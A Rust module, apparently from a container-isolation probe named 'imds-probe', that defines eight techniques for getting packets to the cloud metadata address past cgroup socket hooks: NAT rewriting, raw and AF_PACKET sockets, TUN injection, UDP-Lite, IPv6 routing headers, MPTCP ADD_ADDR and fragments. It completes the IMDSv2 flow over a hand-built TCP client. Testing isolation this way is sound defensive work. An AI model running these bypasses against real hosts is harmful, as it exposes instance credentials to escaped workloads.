//! The packet-path attacks: ways for a process to get a packet to a
//! protected address without `connect()` or `sendmsg()` ever naming it,
//! which is all the cgroup `sock_addr` hooks decide on. Each is one
//! [`Attack`], performed by `imds-probe` as one process (see
//! [`Topology`](crate::Topology) for where, and as whom):
//!
//! | attack | what the hooks see | kernel behaviour exploited |
//! |---|---|---|
//! | `nat` | an unprotected address | an nftables `dnat` in the caller's own netns rewrites the destination after connect (`nf_nat_ipv4_local_fn`) |
//! | `raw-tcp` | nothing | `SOCK_RAW` sends run no cgroup hook (`raw_sendmsg`) |
//! | `packet` | nothing | `AF_PACKET` frames bypass the IP stack (`packet_sendmsg` → `dev_queue_xmit`); the host forwards them |
//! | `tun` | nothing | a TUN device's owner injects packets the host receives, then forwards (`tun_get_user` → `netif_rx`) |
//! | `udplite` | nothing | UDP-Lite's `struct proto` has no `pre_connect`, so connect hooks do not run; connected sends skip sendmsg hooks |
//! | `rthdr` | an unprotected address | `IPV6_RTHDR` (unprivileged): `fl6_update_dst` routes to the routing header's segment, the packet's destination |
//! | `mptcp-add-addr` | the kworker's uid 0 | the peer's ADD_ADDR makes the path manager connect a subflow from a kworker |
//! | `fragments` | nothing | `SOCK_RAW` sends run no cgroup hook, and a fragment after the first has no port to read (for endpoints that protect some ports) |
//!
//! The packet-level attacks ([`links`]) carry a hand-made TCP client
//! ([`handtcp`]), so `packet` and `tun` complete the IMDSv2 flow, and
//! `raw-tcp` shows the SYN-ACK.

pub(crate) mod handtcp;
pub(crate) mod links;
mod sockets;
mod wire;

use std::{
    fmt,
    net::{IpAddr, Ipv6Addr, SocketAddr, SocketAddrV6},
};

pub use self::links::tun_node;
use self::{
    handtcp::Handshake,
    links::{Link, PacketLink, RawLink, TunLink},
};
use crate::{
    imdsv2::{imdsv2_flow, parse_response, request},
    outcome::{Failure, Outcome, Step, os_failure},
};

/// A network interface name, kept inline so that [`Attack`] (and
/// [`Action`](crate::Action)) stay `Copy`.
#[derive(Clone, Copy, PartialEq, Eq)]
pub struct IfName([u8; 16]);

impl IfName {
    /// Panics if `name` is empty or longer than 15 bytes (`IFNAMSIZ - 1`).
    pub fn new(name: &str) -> Self {
        Self::parse(name).unwrap_or_else(|e| panic!("{e}"))
    }

    fn parse(name: &str) -> Result<Self, String> {
        if name.is_empty() || name.len() > 15 || name.contains(['/', ' ', '\0']) {
            return Err(format!("{name:?} is not an interface name"));
        }
        let mut bytes = [0u8; 16];
        bytes[..name.len()].copy_from_slice(name.as_bytes());
        Ok(IfName(bytes))
    }

    pub fn as_str(&self) -> &str {
        let len = self.0.iter().position(|&b| b == 0).unwrap_or(16);
        std::str::from_utf8(&self.0[..len]).unwrap_or("")
    }
}

impl fmt::Debug for IfName {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{:?}", self.as_str())
    }
}

impl fmt::Display for IfName {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// One packet-path attack. `dst` is always the protected destination the
/// packets end up at, except for `nat`, `rthdr` and `mptcp-add-addr`, whose
/// `dst` is the unprotected address the socket calls name.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    /// `nft` `dnat` from `via` to `target` in the probe's own namespace,
    /// then the IMDSv2 flow to `via`. Needs `CAP_NET_ADMIN` over the
    /// namespace: root of a user-namespaced container has it.
    Nat { via: SocketAddr, target: SocketAddr },
    /// A hand-made SYN on a raw socket from `src`; reports the SYN-ACK.
    RawTcp { dst: SocketAddr, src: IpAddr },
    /// The IMDSv2 flow in Ethernet frames on a packet socket, from the
    /// unused address `src` of the container's subnet, through `gateway`.
    Packet {
        dst: SocketAddr,
        src: IpAddr,
        gateway: IpAddr,
    },
    /// The IMDSv2 flow in IP packets written to the TUN device `dev`, from
    /// `src` (an address routed to that device).
    Tun {
        dst: SocketAddr,
        src: IpAddr,
        dev: IfName,
    },
    /// One UDP-Lite datagram with `connect()` and `send()`.
    UdpLite(SocketAddr),
    /// A UDP datagram and a TCP SYN to `dst`, with a routing header whose
    /// segment is `segment`.
    Rthdr {
        dst: SocketAddrV6,
        segment: Ipv6Addr,
    },
    /// An MPTCP connection to a server that announces a protected address.
    MptcpAddAddr(SocketAddr),
    /// One UDP datagram in two IPv4 fragments from a raw socket: the
    /// second has no port to read.
    Fragments(SocketAddr),
}

impl Attack {
    pub fn nat(via: SocketAddr, target: SocketAddr) -> Self {
        Attack::Nat { via, target }
    }
    pub fn raw_tcp(dst: SocketAddr, src: impl Into<IpAddr>) -> Self {
        Attack::RawTcp {
            dst,
            src: src.into(),
        }
    }
    pub fn packet(dst: SocketAddr, src: impl Into<IpAddr>, gateway: impl Into<IpAddr>) -> Self {
        Attack::Packet {
            dst,
            src: src.into(),
            gateway: gateway.into(),
        }
    }
    pub fn tun(dst: SocketAddr, src: impl Into<IpAddr>, dev: &str) -> Self {
        Attack::Tun {
            dst,
            src: src.into(),
            dev: IfName::new(dev),
        }
    }
    pub fn udplite(dst: SocketAddr) -> Self {
        Attack::UdpLite(dst)
    }
    pub fn rthdr(dst: SocketAddrV6, segment: Ipv6Addr) -> Self {
        Attack::Rthdr { dst, segment }
    }
    pub fn mptcp_add_addr(server: SocketAddr) -> Self {
        Attack::MptcpAddAddr(server)
    }
    pub fn fragments(dst: SocketAddr) -> Self {
        Attack::Fragments(dst)
    }

    pub fn verb(&self) -> &'static str {
        match self {
            Attack::Nat { .. } => "nat",
            Attack::RawTcp { .. } => "raw-tcp",
            Attack::Packet { .. } => "packet",
            Attack::Tun { .. } => "tun",
            Attack::UdpLite(_) => "udplite",
            Attack::Rthdr { .. } => "rthdr",
            Attack::MptcpAddAddr(_) => "mptcp-add-addr",
            Attack::Fragments(_) => "fragments",
        }
    }

    /// Whether `verb` names an attack.
    pub fn is_verb(verb: &str) -> bool {
        [
            "nat",
            "raw-tcp",
            "packet",
            "tun",
            "udplite",
            "rthdr",
            "mptcp-add-addr",
            "fragments",
        ]
        .contains(&verb)
    }

    /// The address the command line names first (see the type's doc).
    pub fn addr(&self) -> SocketAddr {
        match *self {
            Attack::Nat { via: a, .. }
            | Attack::RawTcp { dst: a, .. }
            | Attack::Packet { dst: a, .. }
            | Attack::Tun { dst: a, .. }
            | Attack::UdpLite(a)
            | Attack::Fragments(a)
            | Attack::MptcpAddAddr(a) => a,
            Attack::Rthdr { dst, .. } => dst.into(),
        }
    }

    /// The arguments after `VERB ADDR PORT`.
    pub fn extra_args(&self) -> Vec<String> {
        match *self {
            Attack::Nat { target, .. } => vec![target.ip().to_string(), target.port().to_string()],
            Attack::RawTcp { src, .. } => vec![src.to_string()],
            Attack::Packet { src, gateway, .. } => vec![src.to_string(), gateway.to_string()],
            Attack::Tun { src, dev, .. } => vec![src.to_string(), dev.to_string()],
            Attack::Rthdr { segment, .. } => vec![segment.to_string()],
            Attack::UdpLite(_) | Attack::MptcpAddAddr(_) | Attack::Fragments(_) => Vec::new(),
        }
    }

    /// Parses `VERB ADDR PORT EXTRA...`, `addr` being ADDR PORT.
    pub fn from_args(verb: &str, addr: SocketAddr, extra: &[String]) -> Result<Self, String> {
        let ip = |s: &String| -> Result<IpAddr, String> {
            s.parse().map_err(|e| format!("{verb}: address {s:?}: {e}"))
        };
        let same_family = |other: IpAddr| {
            if other.is_ipv4() == addr.is_ipv4() {
                Ok(other)
            } else {
                Err(format!(
                    "{verb}: {other} and {addr} are of different families"
                ))
            }
        };
        let wrong = || format!("{verb}: unexpected arguments {extra:?}");
        Ok(match (verb, extra) {
            ("nat", [ip_s, port]) => {
                let port = port
                    .parse()
                    .map_err(|e| format!("{verb}: port {port:?}: {e}"))?;
                Attack::nat(addr, SocketAddr::new(same_family(ip(ip_s)?)?, port))
            }
            ("raw-tcp", [src]) => Attack::raw_tcp(addr, same_family(ip(src)?)?),
            ("packet", [src, gw]) => {
                Attack::packet(addr, same_family(ip(src)?)?, same_family(ip(gw)?)?)
            }
            ("tun", [src, dev]) => Attack::Tun {
                dst: addr,
                src: same_family(ip(src)?)?,
                dev: IfName::parse(dev)?,
            },
            ("udplite", []) => Attack::udplite(addr),
            ("rthdr", [segment]) => match (addr, ip(segment)?) {
                (SocketAddr::V6(dst), IpAddr::V6(seg)) => Attack::rthdr(dst, seg),
                _ => return Err(format!("{verb} takes IPv6 addresses")),
            },
            ("mptcp-add-addr", []) => Attack::mptcp_add_addr(addr),
            ("fragments", []) => Attack::fragments(addr),
            _ => return Err(wrong()),
        })
    }
}

/// Performs `attack` in the probe's namespaces, as the probe.
pub(crate) fn perform(attack: Attack) -> Step<Outcome> {
    match attack {
        Attack::Nat { via, target } => sockets::nat(via, target),
        Attack::RawTcp { dst, src } => raw_tcp(dst, src),
        Attack::Packet { dst, src, gateway } => {
            let mut link = PacketLink::open(src, gateway)
                .map_err(|e| os_failure(format!("packet socket for {src} via {gateway}"), e))?;
            hand_http_flow(&mut link, src, dst)
        }
        Attack::Tun { dst, src, dev } => {
            let node = tun_node(dev.as_str());
            let mut link = TunLink::open(&node, dev.as_str()).map_err(|e| {
                os_failure(format!("attaching to TUN {dev} ({})", node.display()), e)
            })?;
            hand_http_flow(&mut link, src, dst)
        }
        Attack::UdpLite(dst) => sockets::udplite(dst),
        Attack::Rthdr { dst, segment } => sockets::rthdr(dst, segment),
        Attack::MptcpAddAddr(server) => sockets::mptcp_add_addr(server),
        Attack::Fragments(dst) => sockets::fragments(dst),
    }
}

fn raw_tcp(dst: SocketAddr, src: IpAddr) -> Step<Outcome> {
    let mut link = RawLink::open(src).map_err(|e| os_failure("raw sockets", e))?;
    let answer = handtcp::syn(&mut link, src, dst).map_err(|error| Failure {
        errno: None,
        error,
        body: String::new(),
    })?;
    Ok(Outcome {
        syn_ack: Some(answer == Handshake::Answered),
        note: format!("{answer:?}"),
        ..Outcome::default()
    })
}

/// The IMDSv2 flow with every request on its own hand-made connection.
fn hand_http_flow(link: &mut dyn Link, src: IpAddr, dst: SocketAddr) -> Step<Outcome> {
    imdsv2_flow(|method, path, header| {
        let what = format!("{method} {path}");
        let raw = handtcp::exchange(link, src, dst, &request(dst, method, path, header)).map_err(
            |error| Failure {
                errno: None,
                error: format!("{what}: {error}"),
                body: String::new(),
            },
        )?;
        parse_response(&raw, &what)
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn attacks_round_trip_through_their_arguments() {
        let imds4: SocketAddr = "169.254.169.254:80".parse().unwrap();
        let imds6: SocketAddr = "[fd00:ec2::254]:80".parse().unwrap();
        for attack in [
            Attack::nat("192.0.2.80:80".parse().unwrap(), imds4),
            Attack::raw_tcp(imds6, "fd42::2".parse::<IpAddr>().unwrap()),
            Attack::packet(imds4, [10, 0, 0, 77], [10, 0, 0, 1]),
            Attack::tun(imds4, [10, 99, 0, 2], "igt1f2t3"),
            Attack::udplite(imds6),
            Attack::rthdr(
                "[2001:db8::80]:80".parse().unwrap(),
                "fd00:ec2::254".parse().unwrap(),
            ),
            Attack::mptcp_add_addr("10.254.0.2:8000".parse().unwrap()),
            Attack::fragments(imds4),
        ] {
            let addr = attack.addr();
            assert_eq!(
                Attack::from_args(attack.verb(), addr, &attack.extra_args()),
                Ok(attack)
            );
            assert!(Attack::is_verb(attack.verb()));
        }
    }

    #[test]
    fn mixed_families_and_long_names_are_refused() {
        let imds4: SocketAddr = "169.254.169.254:80".parse().unwrap();
        assert!(Attack::from_args("raw-tcp", imds4, &["fd42::2".into()]).is_err());
        assert!(Attack::from_args("tun", imds4, &["10.0.0.2".into(), "x".repeat(16)]).is_err());
        assert!(Attack::from_args("rthdr", imds4, &["fd00:ec2::254".into()]).is_err());
        assert!(Attack::from_args("udplite", imds4, &["extra".into()]).is_err());
    }
}
